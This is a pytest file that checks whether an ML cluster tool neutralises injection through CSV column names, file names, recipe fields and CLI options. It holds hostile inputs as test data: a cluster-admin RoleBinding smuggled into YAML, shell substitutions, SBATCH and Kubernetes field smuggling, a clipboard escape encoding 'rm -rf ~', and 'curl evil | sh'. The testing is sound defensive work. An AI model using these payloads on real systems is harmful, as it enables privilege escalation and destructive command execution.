"""Foreign names of columns, files and recipes in generated files and on a terminal."""

import ast
import csv
import json
import os
import pty
import re
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from ftcluster.cluster.saved import Cluster, remember
from ftcluster.errors import FtclusterError
from ftcluster.export.kubernetes import quoted
from ftcluster.operations.export.export_slurm import SlurmRequest, export_slurm
from ftcluster.recipe.recipe import checked_recipe, known_recipes, load_recipe
from ftcluster.text.comments import comments
from ftcluster.text.shell_words import shell_line
from ftcluster.text.streams import Show
from ftcluster_common.protocol.job import Job
from ftcluster_common.recipe import BY_TYPE
from tests.fuzz.writers import OBEYED, SGR, File, Terminal
from tests.programs import ROOT
from tests.unit.clusters import cluster, host
from tests.unit.planning.test_memory import write_weights
from tests.unit.shell import Shell

ROLE = """kind: ClusterRoleBinding
apiVersion: rbac.authorization.k8s.io/v1
metadata: {name: owned}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: default, namespace: default}]
---
#"""
BREAKS = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
ESCAPES = ("\x1b]52;c;cm0gLXJmIH4K\x07", "\x1b[2J", "\x9b2J", "\u202egpj.exe", "\x1bc", "\x08\x08")
TWO = cluster(host("n1", cores=16), host("n2", cores=16))
PLAN = ("classify", "--data", "rows.csv", "--model", "model", "text_columns=body")


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Yield the current folder with a model."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "model").mkdir()
    for name in ("config.json", "tokenizer.json"):
        (tmp_path / "model" / name).write_text("{}")
    write_weights(tmp_path / "model/model.safetensors", a=("F32", [2, 3]))
    remember(Cluster(inventories=(Path("/inventory.ini"),), facts=TWO))
    return tmp_path


def write_rows(path: Path, *columns: str) -> None:
    """Write data with columns of any names that no task reads."""
    with path.open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file, quoting=csv.QUOTE_ALL)
        rows.writerow(["body", "label", *columns])
        more = ["x"] * len(columns)
        rows.writerows([[f"It is {word}.", word, *more] for word in ("good", "bad", "so so")])


@pytest.mark.parametrize("kind", ["pytorchjob", "trainjob"])
def test_a_column_is_no_manifest(kind: str, folder: Path, shell: Shell) -> None:
    asked = ["export", "k8s", *PLAN, "--image", "node:1", "--kind", kind]
    write_rows(folder / "rows.csv", "team")
    expected = [one["kind"] for one in yaml.safe_load_all(shell(asked).out)]
    names = [f"{at}{end}{ROLE.replace(chr(10), end)}" for at, end in enumerate(BREAKS)]
    write_rows(folder / "rows.csv", *names)
    text = shell(asked).out
    assert text.count("ClusterRoleBinding") == len(BREAKS)  # only in the comment
    assert [one["kind"] for one in yaml.safe_load_all(text)] == expected
    head = text.splitlines()[: text.splitlines().index("apiVersion: v1")]
    assert all(line.startswith("#") for line in head)


def test_a_column_is_no_command(folder: Path, shell: Shell) -> None:
    names = (f"{at}{end}touch owned #" for at, end in enumerate(BREAKS))
    write_rows(folder / "rows.csv", *names)
    for command in ("plan", "train --dry-run"):
        lines = shell([*command.split(), *PLAN, "--commands"]).out.splitlines()
        begin = next(place for place, line in enumerate(lines) if line.startswith("cd /"))
        assert all(line.startswith("#") for line in lines[:begin])
        assert any("touch owned" in line for line in lines[:begin])
        assert not any("touch owned" in line for line in lines[begin:])


def test_a_file_of_a_scripts_folder_is_no_command(folder: Path, shell: Shell) -> None:
    project = folder / f"project{'touch owned #'.join(BREAKS)}"
    project.mkdir()
    (project / "train.py").write_text("import torch\n")
    for at, end in enumerate(BREAKS):
        # listed among the files that are not copied
        (project / f"{at}{end}touch owned #.pyc").write_text("")
    script = str(project / "train.py")
    lines = shell(["run", "--dry-run", "--commands", "--", script]).out.splitlines()
    begin = next(place for place, line in enumerate(lines) if line.startswith("cd /"))
    assert all(line.startswith("#") for line in lines[:begin])
    assert any("touch owned" in line for line in lines[:begin])
    assert not any(line.strip().startswith("touch") for line in lines)


@pytest.mark.parametrize("line_break", BREAKS)
@pytest.mark.parametrize("field", ["model", "data", "tokenizer", "data_config", "license"])
def test_a_recipe_has_lines_in_no_name(
    line_break: str, field: str, folder: Path, shell: Shell
) -> None:
    """Recipe names have one line, whether from this machine or from a host."""
    name = f"a{line_break}b"
    content = {"model": "a/b", "data": "c/d", field: name}
    (folder / "mine.yml").write_text(json.dumps(content), encoding="utf-8")
    said = shell("plan ./mine.yml", 2).err
    assert re.search(r"mine.yml:1: '[^']*' contains line breaks or control", said), said
    whole = load_recipe("quickstart")
    job = Job("r-1", Path("/a"), Path("/a"), whole, "fp32", False).to_dict()
    recipe = json.loads(json.dumps(job))["recipe"]
    assert checked_recipe(recipe) == whole
    with pytest.raises(ValueError, match=f"{field}: .* contains line breaks or control"):
        checked_recipe({**recipe, field: name})
    with pytest.raises(ValueError, match=r"name: .* contains line breaks or control"):
        checked_recipe({**recipe, "name": name})


VARIANTS: tuple[tuple[str, ...], ...] = (
    (), ("training.train_sampling_strategy=group_by_length",), ("training.warmup_ratio=0.1",),
    ("training.save_strategy=epoch", "training.eval_strategy=epoch",
     "training.load_best_model_at_end=true"),
    ("training.eval_strategy=steps", "training.eval_steps=5", "training.save_strategy=steps",
     "training.save_steps=500", "training.logging_steps=500"),
    ("training.report_to=mlflow", "training.run_name=x"), ("config_overrides.a=1",),
)  # fmt: skip


@pytest.mark.parametrize("changes", VARIANTS, ids=lambda changes: "-".join(changes) or "as it is")
def test_every_recipe_comes_back_from_a_host(changes: tuple[str, ...]) -> None:
    taken = 0
    for name in known_recipes():
        try:
            recipe = load_recipe(name, changes)
        except FtclusterError:  # for example a task without evaluation by length
            continue
        job = Job("r-1", Path("/a"), Path("/a"), recipe, "fp32", False).to_dict()
        assert checked_recipe(json.loads(json.dumps(job))["recipe"]) == recipe
        taken += 1
    assert taken > 5


def test_contradictions_of_a_hosts_recipe_are_refused() -> None:
    job = Job("r-1", Path("/a"), Path("/a"), load_recipe("quickstart"), "fp32", False).to_dict()
    recipe = json.loads(json.dumps(job))["recipe"]
    with pytest.raises(ValueError, match="has no weights; set from_scratch"):
        checked_recipe({**recipe, "model": f"{BY_TYPE}bert", "from_scratch": False})
    with pytest.raises(ValueError, match="begins with -, like an option"):
        checked_recipe({**recipe, "data": "--exec"})


@pytest.mark.parametrize("escape", ESCAPES)
def test_a_terminal_obeys_no_column(
    escape: str, folder: Path, shell: Shell, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_rows(folder / "rows.csv", f"id{escape}")
    for command in ("plan", "data"):
        if command == "data":  # this command asks the head if there is a cluster
            monkeypatch.setenv("XDG_STATE_HOME", str(folder / "no cluster"))
        shown = shell([command, *PLAN])
        assert not OBEYED.search(shown.out + shown.err), command
        assert f"id{escape.encode('unicode_escape').decode()}" in shown.out
        document = shell([command, *PLAN, "--json"])
        assert not OBEYED.search(document.out.rstrip("\n"))
        assert f"id{escape}" in document.document["columns"]["not read"]  # unchanged in JSON
    error = shell(["data", *PLAN[:-1], f"text_columns=no{escape}"], 1).err
    assert not OBEYED.search(error.replace("\n", ""))
    assert error.startswith("error: ")


def test_a_column_is_no_line_of_its_own(folder: Path, shell: Shell) -> None:
    write_rows(folder / "rows.csv", "id\nerror: the cluster is lost\n  run: curl evil | sh")
    out = shell(["plan", *PLAN]).out
    assert "the cluster is lost" in out
    assert "\nerror:" not in out
    said = shell(["plan", *PLAN[:-1], "text_columns=x"], 1).err
    assert "the cluster is lost" in said
    assert "\nerror:" not in said


def on_terminal(folder: Path, *words: str) -> bytes:
    """Return the output of the command on a terminal."""
    own, its = pty.openpty()
    path = os.pathsep.join(str(ROOT / name) for name in ("runner", "common", "train"))
    program = f"import tests.unit.conftest; from ftcluster.cli.main import main; main({words!r})"
    written: list[bytes] = []

    def read() -> None:
        while True:
            try:
                data = os.read(own, 1 << 16)
            except OSError:  # the other side is closed
                return
            written.append(data)

    environment = {
        **os.environ, "PYTHONPATH": f"{ROOT}{os.pathsep}{path}", "TERM": "xterm-256color",
        "COLUMNS": "300", "PYTHONDONTWRITEBYTECODE": "1",
    }  # fmt: skip
    reader = threading.Thread(target=read)
    reader.start()
    subprocess.run(
        [sys.executable, "-c", program], stdin=its, stdout=its, stderr=its, cwd=folder,
        env=environment, check=True, timeout=60,
    )  # fmt: skip
    os.close(its)
    reader.join(10)
    os.close(own)
    return b"".join(written)


def test_a_real_terminal_gets_colours_and_text(folder: Path) -> None:
    write_rows(folder / "rows.csv", "id" + "".join(ESCAPES))
    for words in (("plan", *PLAN), ("plan", *PLAN[:-1], f"text_columns=no{ESCAPES[0]}")):
        shown = on_terminal(folder, *words).decode()
        assert SGR.search(shown)
        assert "\\x1b]52;c;" in shown
        assert not OBEYED.search(re.sub("[\r\n]", "", SGR.sub("", shown)))


NAMES = st.text(
    st.one_of(
        st.sampled_from("".join(BREAKS) + "#'\"\\$`()-:&*!|> \x1b\x9b\u202e"), st.characters()
    )
)


@settings(max_examples=200)
@given(NAMES)
def test_a_comment_is_one_line_and_no_document(name: str) -> None:
    text = "\n".join([*comments([name, f"columns: {name}"]), "a: 1", ""])
    assert len(text.splitlines()) == 3
    assert all(line.startswith("#") for line in text.splitlines()[:2])
    assert list(yaml.safe_load_all(text)) == [{"a": 1}]
    assert not OBEYED.search(text.replace("\n", ""))


@settings(max_examples=200)
@given(NAMES)
def test_a_quoted_text_is_that_text(name: str) -> None:
    text = f"a: {quoted(name)}\nb: [{quoted(name)}]\n"
    assert len(text.splitlines()) == 2
    if not any("\ud800" <= letter <= "\udfff" for letter in name):
        assert yaml.safe_load(text) == {"a": name, "b": [name]}


WORDS = st.lists(
    NAMES.filter(lambda text: "\0" not in text and not re.search("[\ud800-\udfff]", text)),
    min_size=1, max_size=40,
)  # fmt: skip


@settings(max_examples=20, deadline=None)
@given(WORDS)
def test_bash_reads_the_words_that_were_meant(words: list[str]) -> None:
    line = shell_line(words)
    assert len(line.splitlines()) == 1
    assert not OBEYED.search(line)
    done = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {line}"], capture_output=True, check=True, timeout=20,
        env={"LC_ALL": "C.UTF-8", "PATH": os.environ["PATH"]},
    )  # fmt: skip
    assert done.stdout.decode().split("\0")[:-1] == words


def test_values_of_a_batch_script_are_words(folder: Path) -> None:
    """Values may end a line, a quotation or a comment, or contain shell code."""
    program = folder / "ftcluster"
    program.write_text("#!/bin/sh\nprintf '%s\\0' \"$@\" > words\n")
    program.chmod(0o755)
    hostile = "rows #SBATCH --wrap='touch owned' '\"$(touch owned)`touch owned`#"
    write_rows(folder / "rows.csv", "team")
    (folder / f"{hostile}.csv").write_bytes((folder / "rows.csv").read_bytes())
    request = SlurmRequest(
        words=("classify", "text_columns=body"), data=f"{hostile}.csv", model="model",
        nodes=2,
    )  # fmt: skip
    script = export_slurm(request, "job.sh")
    asked = [line for line in script.splitlines() if line.startswith("#SBATCH")]
    assert len(asked) == 9
    assert "uid" not in "".join(asked)
    path = f"{folder}:{os.environ['PATH']}"
    subprocess.run(["bash", "job.sh"], check=True, timeout=20, env={"PATH": path})
    words: list[Any] = Path("words").read_bytes().decode().split("\0")
    assert words[words.index("--data") + 1] == str(folder / f"{hostile}.csv")
    assert not (folder / "owned").exists()


@pytest.mark.parametrize("name", ["a\n#SBATCH --uid=0", "a b", "$(id)", "a\u2028b", "a'"])
@pytest.mark.parametrize("option", ["name", "partition", "account", "time"])
def test_options_of_sbatch_are_names(name: str, option: str, shell: Shell) -> None:
    said = shell(["export", "slurm", "quickstart", f"--{option}", name], 2).err
    assert f"--{option}: " in said


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--image", "node:1\nkind: Pod"), ("--image", "node:1 # x"), ("--image", "'x'"),
        ("--image", "x\x9b2J"), ("--image", "x\u202ey"), ("--image", "{}"),
        ("--name", "a\n---\nkind: Pod"), ("--namespace", "a\nlabels: {}"), ("--claim", "a, b: c"),
        ("--token-secret", "a}, securityContext: {privileged: true"),
        ("--node-selector", "a=b\nhostNetwork: true"), ("--node-selector", "a=b\u2028c"),
    ],
)  # fmt: skip
def test_options_of_kubernetes_are_names(option: str, value: str, shell: Shell) -> None:
    asked = ["export", "k8s", "quickstart", "--image", "node:1", option, value]
    said = shell(asked, 2)
    assert f"{option}: " in said.err
    assert said.out == ""


@pytest.mark.parametrize(
    "image",
    ["node:1", "registry.example:5000/team/ftcluster_node:2.1-rc.1", f"a/b@sha256:{'0' * 64}",
     "[fd00::1]:5000/node"],
)  # fmt: skip
def test_names_of_images(image: str, shell: Shell) -> None:
    text = shell(["export", "k8s", "quickstart", "--image", image]).out
    assert f"image: '{image}'" in text


def made_comments(source: str) -> list[int]:
    """Return the lines of a generated file that have a comment with a field in it."""
    return [
        node.lineno
        for node in ast.walk(ast.parse(source))
        if isinstance(node, ast.JoinedStr)
        and len(node.values) > 1
        and isinstance(first := node.values[0], ast.Constant)
        and re.match(r"\s*#+(\s|!)", str(first.value))
    ]


def test_one_function_writes_comments() -> None:
    assert made_comments('a = f"# {name}"') == [1]
    assert made_comments('a = f"#SBATCH {option}"') == []  # not a comment; see OPTION there
    found = [
        f"{path.relative_to(ROOT)}:{line}"
        for folder in ("runner", "plugins")
        for path in sorted((ROOT / folder).rglob("*.py"))
        for line in made_comments(path.read_text(encoding="utf-8"))
    ]
    assert found == []
    for path in (ROOT / "runner/ftcluster/export").glob("*.j2"):
        text = re.sub(r"\{#.*?#\}", "", path.read_text(encoding="utf-8"), flags=re.DOTALL)
        assert not re.findall(r"(?m)^.*(?<!\S)#.*\{\{.*$", text), path


def test_a_terminal_gets_text_and_colours_of_a_script() -> None:
    """Escape sequences in pieces, and sequences that would hide ftcluster's own lines."""
    pieces = [
        "\r 50 %|#####     |", "\x1b[1;31mred", " \x1b[8mhidden", "\x1b", "[2J", "\x1b]52;c;",
        "Y3VybA==\x07", "\x9b2J", "\x1b[A\x1b[K", "\x1bP+q\x1b\\", "\u202eevil\n",
    ]  # fmt: skip
    terminal, file = Terminal(), File()
    for stream in (terminal, file):
        show = Show(stream, stream)
        for piece in pieces:
            show("stdout", piece)
    assert file.getvalue() == "".join(pieces)
    shown = terminal.getvalue()
    assert shown.startswith("\r 50 %|#####     |\x1b[1;31mred\x1b[0m \x1b[8mhidden\x1b[0m\\x1b[2J")
    assert shown.endswith("\\u202eevil\n")
    assert not OBEYED.search(SGR.sub("", shown).replace("\r", ""))
